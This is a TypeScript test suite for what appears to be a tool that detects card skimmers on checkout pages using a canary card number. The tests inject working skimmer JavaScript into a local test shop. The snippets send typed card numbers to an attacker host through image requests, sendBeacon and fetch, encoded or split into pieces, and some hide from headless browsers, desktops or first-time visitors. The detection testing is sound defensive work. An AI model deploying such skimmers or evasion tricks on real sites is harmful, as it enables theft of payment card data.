import assert from 'node:assert/strict'
import { randomBytes, randomUUID } from 'node:crypto'
import { once } from 'node:events'
import { createSecureServer, type ServerHttp2Stream } from 'node:http2'
import type { AddressInfo } from 'node:net'
import * as path from 'node:path'
import { after, afterEach, before, test } from 'node:test'
import type { WatcherProfile } from '@candor/protocol/integrity-api.ts'
import { selfSigned } from '../../server/test/tls-proxy.ts'
import { makeCanary } from '../src/canary.ts'
import type { Baseline } from '../src/observation.ts'
import { watch, type Watched, type WatchedTarget } from '../src/watch.ts'
import { openSkimmedShop, type SkimmedShop } from './skimmed-shop.ts'

let shop: SkimmedShop
before(async () => {
  shop = await openSkimmedShop()
})
afterEach(() => {
  shop.infect('')
  shop.received.length = 0
  shop.served.length = 0
  for (const name of Object.keys(shop.headers)) delete shop.headers[name]
})
after(() => shop.close())

async function run(
  profile: WatcherProfile,
  change: Partial<WatchedTarget> = {},
  baseline: Baseline | null = null,
  args: readonly string[] = [],
): Promise<Watched & { number: string }> {
  const canary = makeCanary((count) => randomBytes(count), new Date())
  const watched = await watch(
    { url: shop.url, approvedHosts: [], steps: [], submit: false, ...change },
    profile,
    {
      id: randomUUID(),
      canary,
      baseline,
      chromium: {
        executable: process.env['CANDOR_BROWSER'],
        cacheFolder: path.resolve(import.meta.dirname, '../../../.cache'),
        env: process.env as Record<string, string>,
        args: [
          '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost, EXCLUDE *.localhost',
          ...args,
        ],
      },
      random: Math.random,
      now: Date.now,
      limits: { beforeMs: 600, afterMs: 900, leftMs: 800 },
    },
  )
  return { ...watched, number: canary.number }
}

const canaries = (watched: Watched) => watched.run.findings.filter(({ kind }) => kind === 'canary')
/** Reads the card when the field is left, and sends it by `send(text)`. */
const skimmer = (send: string, when = 'true'): string => `
  const attacker = ${JSON.stringify(shop.attacker)}
  const send = (text) => { ${send} }
  if (${when}) document.querySelector('#n').addEventListener('blur', (event) => send(event.target.value))`
const viaImage = 'new Image().src = attacker + "/i.gif?d=" + btoa(text)'

test('a clean page is clean, its form filled with a card that nobody has', async () => {
  const watched = await run('desktop')
  assert.equal(watched.run.outcome, 'clean', JSON.stringify(watched.run))
  assert.deepEqual([...watched.typed].sort(), ['cvc', 'expiry', 'name', 'number'])
  assert.deepEqual(watched.run.findings, [])
  assert.ok(watched.observed.scripts.some(({ url }) => url === new URL('/shop.js', shop.url).href))
  assert.deepEqual(watched.observed.forms, [
    {
      action: new URL('/pay', shop.url).href,
      method: 'post',
      fields: ['c', 'e', 'h', 'n'].map((id) => ({ c: 'cvc', e: 'exp', h: 'holder', n: 'n' })[id]!).sort(),
    },
  ])
  // Nothing in what it says of itself tells it from a browser with a window.
  assert.doesNotMatch(shop.served.join('\n'), /headless/i)
})

test('a skimmer that only phones get is seen by the phone, not from the desktop', async () => {
  shop.infect(
    skimmer(viaImage, '/Mobile/.test(navigator.userAgent) && "ontouchstart" in window && screen.width < 500'),
  )
  const desktop = await run('desktop')
  assert.deepEqual(canaries(desktop), [])
  assert.equal(shop.received.length, 0)
  const phone = await run('phone')
  assert.equal(phone.run.outcome, 'leaking')
  assert.match(canaries(phone)[0]!.detail, /address of a request: base64/)
  assert.equal(canaries(phone)[0]!.url, `${shop.attacker}/i.gif`)
  assert.ok(canaries(phone)[0]!.proof)
  // It truly left: the attacker has it.
  assert.ok(shop.received.some(({ url }) => url.includes(btoa(phone.number))))
})

test('a skimmer that spares fresh identities is seen by who was here before', async () => {
  shop.infect(`
    const known = localStorage.getItem('seen') !== null
    localStorage.setItem('seen', '1')
    ${skimmer(viaImage, 'known')}`)
  assert.deepEqual(canaries(await run('fresh')), [])
  assert.equal((await run('desktop')).run.outcome, 'leaking')
})

test('a skimmer that only robots do not get is seen', async () => {
  shop.infect(
    skimmer(
      viaImage,
      '!navigator.webdriver && !/headless/i.test(navigator.userAgent + JSON.stringify(navigator.userAgentData ?? {}))',
    ),
  )
  assert.equal((await run('fresh')).run.outcome, 'leaking')
})

test('an address to which the card left is told without the card', async () => {
  shop.infect(skimmer('new Image().src = attacker + "/" + text + ".gif"'))
  const watched = await run('fresh')
  assert.equal(canaries(watched)[0]!.url, `${shop.attacker}/-card-.gif`)
  assert.doesNotMatch(JSON.stringify(watched.run), new RegExp(watched.number))
})

test('a skimmer that works at night only is seen by the night', async () => {
  shop.infect(skimmer(viaImage, 'new Date().getHours() < 6'))
  assert.equal((await run('night')).run.outcome, 'leaking')
})

test('a skimmer behind a filled cart is seen by who fills one', async () => {
  shop.infect(skimmer(viaImage))
  const url = `${shop.url}?needs=cart`
  const without = await run('desktop', { url })
  assert.equal(without.run.outcome, 'failed')
  assert.match(without.run.reason!, /No field/)
  const steps = [
    { do: 'goto', url: new URL('/product', shop.url).href },
    { do: 'click', selector: '#add' },
  ] as const
  assert.equal((await run('cart', { url, steps })).run.outcome, 'leaking')
})

test('what is sent after the page is left is seen, whole and in pieces', async () => {
  shop.infect(`
    const attacker = ${JSON.stringify(shop.attacker)}
    let text = ''
    document.querySelector('#n').addEventListener('input', (event) => (text = event.target.value))
    addEventListener('pagehide', () => navigator.sendBeacon(attacker + '/b', [...text].map((c) => c.charCodeAt(0) ^ 42).join(',')))`)
  const beacon = await run('fresh')
  assert.match(canaries(beacon)[0]!.detail, /body of a request: character codes › xor/)
  shop.infect(
    skimmer(`
    for (const piece of text.match(/.{4}/g)) navigator.sendBeacon(attacker + '/p?x=' + Math.random(), 'd=' + piece)`),
  )
  const pieces = await run('fresh')
  assert.match(canaries(pieces)[0]!.detail, /left in 4 pieces over 4 requests/)
})

test('where card data may go, nothing is looked at', async () => {
  shop.infect(skimmer(viaImage))
  const watched = await run('fresh', { approvedHosts: ['127.0.0.1'] })
  assert.equal(watched.run.outcome, 'clean', JSON.stringify(watched.run.findings))
})

test('what changed since it was approved is found: a script, a hash, a header, a form, a host', async () => {
  shop.headers['content-security-policy'] = "object-src 'none'"
  const { observed } = await run('fresh')
  const baseline: Baseline = observed
  assert.deepEqual((await run('fresh', {}, baseline)).run.findings, [])
  delete shop.headers['content-security-policy']
  shop.infect(`
    document.querySelector('form').setAttribute('action', ${JSON.stringify(`${shop.attacker}/pay`)})
    new Function('return 1')()
    fetch(${JSON.stringify(shop.attacker)}, { mode: 'no-cors' })`)
  const { run: changed } = await run('fresh', {}, baseline)
  assert.equal(changed.outcome, 'changed')
  assert.deepEqual(changed.findings.map(({ kind, url }) => `${kind} ${url.replace(/:\d+/, '')}`).sort(), [
    'form http://127.0.0.1/pay',
    'header http://localhost/checkout',
    'request 127.0.0.1',
    'script eval by http://localhost/checkout',
    'script http://localhost/checkout#inline',
  ])
})

test('a form is sent off only where the tenant says so', async () => {
  await run('fresh')
  assert.ok(!shop.served.some((line) => line.startsWith('POST')))
  const submitted = await run('fresh', { submit: true })
  assert.ok(shop.served.some((line) => line.startsWith('POST /pay')))
  assert.deepEqual(canaries(submitted), [], 'the number has no name, so no form sends it')
})

test('a card in the body of a request over HTTP/2, encrypted, is seen', async () => {
  const bodies: string[] = []
  const attacker = createSecureServer(selfSigned())
  attacker.on('stream', (stream: ServerHttp2Stream) => {
    let body = ''
    stream.setEncoding('latin1').on('data', (text: string) => (body += text))
    stream.on('end', () => bodies.push(body))
    stream.respond({ ':status': 204 })
    stream.end()
  })
  attacker.listen(0, '127.0.0.1')
  await once(attacker, 'listening')
  const { port } = attacker.address() as AddressInfo
  try {
    // In two requests of one connection, so that the frames of both lie in the same bytes.
    shop.infect(
      skimmer(`
        const to = 'https://127.0.0.1:${port}/'
        const post = (body) => fetch(to, { method: 'POST', mode: 'no-cors', body })
        post('first').then(() => { post('d=' + text.slice(0, 8)); post('d=' + text.slice(8)) })`),
    )
    const watched = await run('fresh', {}, null, ['--ignore-certificate-errors'])
    assert.equal(bodies.length, 3, JSON.stringify(bodies))
    assert.match(canaries(watched)[0]?.detail ?? '', /2 pieces/, JSON.stringify(watched.run))
    assert.equal(canaries(watched)[0]!.url, `https://127.0.0.1:${port}/`)
  } finally {
    await new Promise((resolve) => attacker.close(resolve))
  }
})

test('where the browser’s log does not come to its end, the run is failed, not clean', async () => {
  // With a limit of its own Chromium puts the log together when it ends, which is too late.
  const { run: ended } = await run('fresh', {}, null, ['--net-log-max-size-mb=50'])
  assert.equal(ended.outcome, 'failed')
  assert.match(ended.reason!, /did not write its log/)
})

test('a page that never ends is left', async () => {
  shop.infect(
    'setInterval(() => fetch("/shop.js?" + Math.random()), 1); addEventListener("beforeunload", (e) => e.preventDefault())',
  )
  const canary = makeCanary((count) => randomBytes(count), new Date())
  const { run: ended } = await watch(
    { url: shop.url, approvedHosts: [], steps: [], submit: false },
    'fresh',
    {
      id: randomUUID(),
      canary,
      baseline: null,
      chromium: {
        executable: process.env['CANDOR_BROWSER'],
        cacheFolder: path.resolve(import.meta.dirname, '../../../.cache'),
        env: process.env as Record<string, string>,
      },
      random: Math.random,
      now: Date.now,
      limits: { requestsMax: 200 },
    },
  )
  assert.equal(ended.outcome, 'failed')
  assert.match(ended.reason!, /more than 200 requests/)
})
